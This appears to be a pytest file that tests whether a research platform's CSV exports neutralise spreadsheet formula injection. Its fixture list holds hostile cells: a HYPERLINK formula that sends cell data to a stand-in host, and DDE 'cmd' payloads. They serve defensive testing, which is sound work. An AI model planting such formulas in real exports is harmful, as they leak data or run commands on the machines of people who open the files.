"""CSV exports never hand a spreadsheet a formula: cells from researchers, raters and models that
start like one are neutralized (OWASP), numeric columns stay numbers, JSON stays exact."""

import csv
import io
import json

import pytest
from django.core.management import call_command
from hypothesis import given, settings
from hypothesis import strategies as st

from research.api import exports
from tests.factories import (
    CandidateFactory,
    MembershipFactory,
    OutputFactory,
    PairFactory,
    PromptFactory,
    RaterFactory,
    StudyFactory,
    VoteFactory,
)

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def body(response) -> str:
    return b"".join(response.streaming_content).decode()


def csv_rows(response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body(response), newline="")))


@pytest.fixture
def hostile_study(researcher):
    study = StudyFactory(owner=researcher)
    model_a = CandidateFactory(study=study, label="=cmd|' /C calc'!A0", model="@evil/model")
    model_b = CandidateFactory(study=study, label="-beta", model="openai/beta")
    for number, hostile in enumerate(HOSTILE):
        rater = MembershipFactory(rater=RaterFactory(), study=study).rater
        prompt = PromptFactory(
            study=study, external_id=f"={number}", text=hostile, category="+category"
        )
        pair = PairFactory(
            study=study,
            prompt=prompt,
            output_a=OutputFactory(
                prompt=prompt, candidate=model_a, text=hostile, latency_ms=-1.5, served_model="=x"
            ),
            output_b=OutputFactory(
                prompt=prompt,
                candidate=model_b,
                text="a plain answer",
                latency_ms=12.0,
                input_tokens=3,
                output_tokens=5,
                cost_usd="0.00100000",
            ),
        )
        # Both models win sometimes, and both sides are shown left: a ranking (and a position
        # bias) can be fitted from these few votes.
        VoteFactory(
            pair=pair,
            rater=rater,
            choice="a" if number % 2 else "b",
            left_output=pair.output_a if number % 3 else pair.output_b,
            rationale=hostile,
            time_spent_ms=1200,
        )
    return study


def assert_no_formula(rows: list[dict[str, str]], numeric: set[str]) -> None:
    for row in rows:
        for column, value in row.items():
            if column in numeric:
                continue
            assert not value.startswith(FORMULA_STARTS), (column, value)


def test_hostile_reasons_labels_and_prompts_are_neutralized_in_votes_csv(api, hostile_study):
    rows = csv_rows(api.get(f"/api/v1/studies/{hostile_study.pk}/votes.csv"))
    assert len(rows) == len(HOSTILE)
    assert_no_formula(rows, numeric={"time_spent_ms", "tstamp"})
    assert sorted(row["rationale"] for row in rows) == sorted("'" + text for text in HOSTILE)
    assert {row["model_a"] for row in rows} == {"'=cmd|' /C calc'!A0"}
    assert {row["model_b"] for row in rows} == {"'-beta"}
    assert {row["category"] for row in rows} == {"'+category"}
    assert {row["time_spent_ms"] for row in rows} == {"1200"}


def test_hostile_outputs_and_prompts_are_neutralized_in_outputs_csv(api, hostile_study):
    rows = csv_rows(api.get(f"/api/v1/studies/{hostile_study.pk}/outputs.csv"))
    assert len(rows) == 2 * len(HOSTILE)
    numeric = {"input_tokens", "output_tokens", "cost_usd", "latency_ms", "ttft_ms"}
    assert_no_formula(rows, numeric=numeric)
    hostile_rows = [row for row in rows if row["candidate"].startswith("'=")]
    assert sorted(row["text"] for row in hostile_rows) == sorted("'" + t for t in HOSTILE)
    assert sorted(row["prompt_text"] for row in hostile_rows) == sorted("'" + t for t in HOSTILE)
    assert {row["model"] for row in hostile_rows} == {"'@evil/model"}
    assert {row["served_model"] for row in hostile_rows} == {"'=x"}
    # A number in a numeric column is a number, negative or not: not text.
    assert {row["latency_ms"] for row in hostile_rows} == {"-1.5"}
    assert {row["cost_usd"] for row in rows if not row["candidate"].startswith("'=")} == {
        "0.00100000"
    }


@pytest.mark.parametrize("fmt", ["jsonl", "json"])
def test_json_exports_keep_hostile_text_exact(api, hostile_study, fmt):
    text = body(api.get(f"/api/v1/studies/{hostile_study.pk}/votes.{fmt}"))
    rows = json.loads(text) if fmt == "json" else [json.loads(x) for x in text.splitlines()]
    assert sorted(row["rationale"] for row in rows) == sorted(HOSTILE)
    assert {row["model_a"] for row in rows} == {"=cmd|' /C calc'!A0"}


def test_outputs_jsonl_keeps_hostile_text_exact(api, hostile_study):
    text = body(api.get(f"/api/v1/studies/{hostile_study.pk}/outputs.jsonl"))
    rows = [json.loads(line) for line in text.splitlines()]
    assert sorted(r["text"] for r in rows if r["text"] != "a plain answer") == sorted(HOSTILE)
    assert {r["latency_ms"] for r in rows} == {-1.5, 12.0}


def test_a_leading_quote_is_itself_escaped_so_the_original_can_be_told_apart():
    assert exports.csv_cell("'=1+1") == "''=1+1"
    assert exports.csv_cell("it's fine") == "it's fine"


@given(st.text())
@settings(max_examples=300)
def test_no_text_cell_ever_starts_like_a_formula(text):
    cell = exports.csv_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    # Nothing is lost: removing the one added quote gives the original back.
    assert cell == text or cell == "'" + text


@pytest.mark.parametrize("number", [-0.5, -3, 0, 2.25])
def test_numbers_stay_numbers(number):
    assert exports.csv_cell(number, numeric=True) == number


def test_manage_py_analyze_reads_the_neutralized_csv_back_to_the_original_names(
    api, hostile_study, tmp_path
):
    path = tmp_path / "votes.csv"
    path.write_text(body(api.get(f"/api/v1/studies/{hostile_study.pk}/votes.csv")))
    out = io.StringIO()
    call_command("analyze", str(path), stdout=out)
    ranked = {model["model"] for model in json.loads(out.getvalue())["models"]}
    assert ranked == {"=cmd|' /C calc'!A0", "-beta"}
